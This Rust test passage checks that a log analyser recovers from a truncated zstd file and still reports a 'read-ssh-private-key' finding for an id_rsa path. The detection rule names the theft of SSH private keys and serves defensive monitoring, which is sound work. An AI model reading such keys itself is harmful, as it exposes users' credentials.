    let plain = dir.path().join("several.log");
    write_lines(&plain, &lines);
    let zst = dir.path().join("several.log.zst");
    compress("zstd", &plain, &zst);
    let bytes = std::fs::read(&zst).unwrap();
    let cut = dir.path().join("cut.log.zst");
    std::fs::write(&cut, &bytes[..bytes.len() / 2]).unwrap();
    let (got, o) = analyze(&cut);
    let n = cut_after(&stderr(&o), cut.to_str().unwrap(), "zstd");
    assert!(n > 0 && n < lines.len() as u64, "cut after {n} of {} lines", lines.len());
    assert_eq!(got["stats"]["lines"], n);
    assert_eq!(got["stats"]["cut"][0]["what"], "corrupt zstd data");
    assert!(has_finding(&got, "read-ssh-private-key", "/home/pkgtrace/.ssh/id_rsa"), "{:?}", rule_subjects(&got));
}
